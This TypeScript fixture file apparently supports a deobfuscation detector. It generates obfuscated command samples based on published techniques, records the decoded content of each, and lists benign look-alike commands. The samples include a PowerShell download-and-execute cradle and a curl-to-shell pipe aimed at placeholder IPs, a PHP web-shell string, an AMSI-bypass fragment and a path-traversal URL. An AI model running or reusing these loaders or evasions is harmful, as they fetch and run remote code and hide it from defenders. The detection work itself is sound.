/**
 * Shapes of obfuscation as published (MITRE ATT&CK T1027 and T1140, Invoke-Obfuscation, Invoke-DOSfuscation, LOLBAS, vendors’ reports), around harmless texts of
 * our own. Each line has what the decoded text holds.
 */
import { deflateSync, gzipSync, zlibSync } from 'fflate';

export const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
export const narrow = (data: string | Uint8Array): string => bytesOf(data).toString('base64');
const bytesOf = (data: string | Uint8Array): Buffer => (typeof data === 'string' ? Buffer.from(data) : Buffer.from(data));
/** As mail wraps it (RFC 2045). */
const wrapped = (text: string, width = 76): string => text.replace(new RegExp(`.{${width}}(?=.)`, 'g'), '$&\r\n');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const codes = (text: string): number[] => [...text].map((char) => char.charCodeAt(0));

const loader = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
const shell = 'curl -s http://203.0.113.9/setup.sh | sh';

export interface Sample {
  shape: string;
  text: string;
  holds: string;
  steps: string[];
}

const sample = (shape: string, text: string, holds: string, ...steps: string[]): Sample => ({ shape, text, holds, steps });

const wideStep = 'Base64 (UTF-16LE)';

export const samples: readonly Sample[] = [
  sample('-EncodedCommand', `powershell.exe -EncodedCommand ${wide(loader)}`, loader, wideStep),
  sample('-enc, hidden window', `powershell -nop -w hidden -enc ${wide(loader)}`, loader, wideStep),
  sample('-e, short data', `powershell -e ${wide('id')}`, 'powershell -e id', wideStep),
  sample('-ec', `pwsh -ec ${wide('whoami')}`, 'pwsh -ec whoami', wideStep),
  sample('slash and mixed case', `powershell /eNcOdEdCo ${wide('whoami /all')}`, 'whoami /all', wideStep),
  sample('en dash', `powershell \u2013enc ${wide('whoami /all')}`, 'whoami /all', wideStep),
  sample('quoted data', `powershell -enc "${wide('whoami /all')}"`, '-enc "whoami /all"', wideStep),
  sample('colon', `powershell -enc:${wide('Get-Date')}`, '-enc:Get-Date', wideStep),
  sample(
    'one in another',
    `powershell -enc ${wide(`powershell -enc ${wide(loader)}`)}`,
    `-enc powershell -enc ${loader}`,
    wideStep,
    wideStep,
  ),
  sample(
    'FromBase64String, UTF-8',
    `IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${narrow(loader)}')))`,
    loader,
    'Base64',
  ),
  sample(
    'FromBase64String, Unicode',
    `IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("${wide(loader)}")))`,
    loader,
    wideStep,
  ),
  sample(
    'gzip',
    `IEX(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${narrow(gzipSync(bytesOf(loader)))}'),0))).ReadToEnd()`,
    loader,
    'Base64',
    'gzip',
  ),
  sample(
    'raw deflate',
    `IEX(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${narrow(deflateSync(bytesOf(loader)))}'),0))`,
    loader,
    'Base64',
    'deflate',
  ),
  sample(
    'zlib in Python',
    `python3 -c "import zlib,base64;exec(zlib.decompress(base64.b64decode('${narrow(zlibSync(bytesOf('import os;os.listdir()')))}')))"`,
    'import os;os.listdir()',
    'Base64',
    'deflate',
  ),
  sample(
    'gzip in gzip',
    `sh -c "echo ${narrow(gzipSync(gzipSync(bytesOf(shell))))} | base64 -d | gunzip | gunzip"`,
    shell,
    'Base64',
    'gzip',
  ),
  sample(
    'wrapped lines',
    `IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("${wrapped(wide(loader))}")))`,
    loader,
    wideStep,
  ),
  sample('wrapped lines of gzip', `$z = "${wrapped(narrow(gzipSync(bytesOf(loader.repeat(3)))), 64)}"`, loader, 'Base64', 'gzip'),
  sample(
    'gzip, then wide text',
    `sh -c "echo ${narrow(gzipSync(Buffer.from(loader, 'utf16le')))} | base64 -d | gunzip"`,
    loader,
    'Base64',
    'gzip',
  ),
  sample('echo to base64 -d', `sh -c "echo ${narrow(shell)} | base64 -d | sh"`, shell, 'Base64'),
  sample('short data to base64 -d', 'bash -c "echo d2hvYW1p|base64 -d|bash"', 'echo whoami|', 'Base64'),
  sample('here string', `bash <<< "$(base64 --decode <<< ${narrow(shell)})"`, shell, 'Base64'),
  sample(
    'b64decode in Python',
    `python3 -c "exec(__import__('base64').b64decode('${narrow('import pty;pty.spawn()')}'))"`,
    'import pty;pty.spawn()',
    'Base64',
  ),
  sample(
    'atob',
    `node -e "eval(atob('${narrow("require('fs').readdirSync('/')")}'))"`,
    "require('fs').readdirSync('/')",
    'Base64',
  ),
  sample('xxd', `echo ${hex('whoami')} | xxd -r -p | sh`, 'echo whoami |', 'Hex'),
  sample('fromhex', `python -c "exec(bytes.fromhex('${hex('import os')}'))"`, 'import os', 'Hex'),
  sample('0x and digits', `mysql -e "select 0x${hex('<?php echo shell_exec($_GET[1]);')}"`, 'shell_exec', 'Hex'),
  sample('\\x escapes', `bash -c "$(printf '\\x77\\x68\\x6f\\x61\\x6d\\x69')"`, "printf 'whoami'", 'Hex'),
  sample('[char] sum', 'powershell &([char]105+[char]101+[char]120) $a', "'iex'", 'Character codes'),
  sample('[char] in hexadecimal and brackets', 'powershell & ([char]0x69+([char]0x65)+[char](120))', "'iex'", 'Character codes'),
  sample('[char[]] and join', `powershell -join([char[]](${codes(loader).join(',')}))`, loader.slice(0, 30), 'Character codes'),
  sample(
    'numbers through a pipe',
    `powershell (${codes('whoami /all').join(', ')}|%{[char]$_}) -join ''`,
    'whoami /all',
    'Character codes',
  ),
  sample(
    '0x list',
    `powershell $b=@(${codes('iex $x')
      .map((code) => `0x${code.toString(16)}`)
      .join(',')})`,
    "'iex $x'",
    'Character codes',
  ),
  sample(
    'fromCharCode',
    `mshta "javascript:eval(String.fromCharCode(${codes('new ActiveXObject').join(',')}))"`,
    'new ActiveXObject',
    'Character codes',
  ),
  sample(
    'Chr in VBScript',
    'cscript //e:vbscript x.txt Execute(Chr(87) & Chr(83) & Chr(99) & Chr(114))',
    "Execute('WScr'",
    'Character codes',
  ),
  sample('chr in Python', 'python -c "exec(chr(105)+chr(109)+chr(112))"', "exec('imp')", 'Character codes'),
  sample(
    'joined strings',
    `powershell "&('I'+'E'+'X') ('Down'+'load'+'String')"`,
    "&('IEX') ('DownloadString')",
    'String concatenation',
  ),
  sample(
    'joined strings in brackets and lines',
    `powershell $a=("Am"\n + ("siUt") + "ils")`,
    '"AmsiUtils"',
    'String concatenation',
  ),
  sample('joined strings in an argument', 'powershell -c "iex (\\"who\\"+\\"ami\\")"', '\\"whoami\\"', 'String concatenation'),
  sample('format', `powershell & ("{1}{0}" -f 'EX','I') $a`, '& ("IEX") $a', 'String format'),
  sample(
    'format without spaces',
    `powershell .("{2}{0}{1}"-f'ke-Ex','pression','Invo') $a`,
    'Invoke-Expression',
    'String format',
  ),
  sample(
    'joined and encoded',
    `powershell IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${wide(loader).slice(0, 30)}'+'${wide(loader).slice(30)}')))`,
    loader,
    'String concatenation',
    wideStep,
  ),
  sample('carets', 'cmd /c p^o^w^er^sh^ell -n^op -c who^ami', 'powershell -nop -c whoami', 'Caret escapes'),
  sample(
    'carets around an encoded command',
    `cmd.exe /c "^p^o^w^e^rshell -^e^n^c ${wide('whoami /all')}"`,
    'powershell -enc whoami /all',
    'Caret escapes',
    wideStep,
  ),
  sample('backticks', 'powershell I`NVo`ke-E`xpr`ession $a', 'INVoke-Expression', 'Backtick escapes'),
  sample('percent encoding', 'curl http://203.0.113.9/%2e%2e/%65%74%63/%70asswd', '/../etc/passwd', 'URL encoding'),
  sample('twice percent encoded', 'curl http://203.0.113.9/%252e%252e/%2565tc', '/../etc', 'URL encoding', 'URL encoding'),
  sample(
    'percent encoded and Base64',
    `curl "http://203.0.113.9/x?cmd=${encodeURIComponent(narrow(`${shell}??`))}"`,
    shell,
    'URL encoding',
    'Base64',
  ),
];

/** Everyday texts that look encoded. */
export const plain: readonly string[] = [
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -File C:\\scripts\\backup.ps1',
  'C:\\Windows\\System32\\svchost.exe -k GraphicsPerfSvcGroup -s GraphicsPerfSvc',
  '/usr/lib/systemd/systemd-networkd-wait-online --interface=eth0',
  'runc --root /var/run/docker/runtime-runc/moby/5978328cff1520359db3541a1d567f5c789f12faa07c1c652ff129fa783fd6d8 start',
  'git show HEAD^2 --format=%H',
  'git rebase -i HEAD^^',
  'echo 5d41402abc4b2a76b9719d911017c592',
  'sha256sum e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  'cmd /c echo %CD% %DATE% %COMSPEC%',
  'msedge.exe --single-argument https://example.net/a%20b%20c',
  "Write-Host ('{0} of {1}' -f $done, $all)",
  'powershell -Command "Get-ChildItem `\r\n -Path C:\\"',
  'echo `date` >> /var/log/x.log',
  'perl -e "print 1"',
  'sed -e s/AbcdEfgh/IjklMnop/',
  'nmap -p 22,80,443,3389,5985 10.0.0.0/24',
  'schtasks /create /tn MicrosoftEdgeUpdateTaskMachineCoreXyz',
  'openssl enc -e -aes-256-cbc -in a.txt -out b.bin',
  "it's 'a' and 'b'",
  '2026112312345678901234567890',
  `${'Lorem/ipsum+dolor'.repeat(4)}\nand more words`,
];
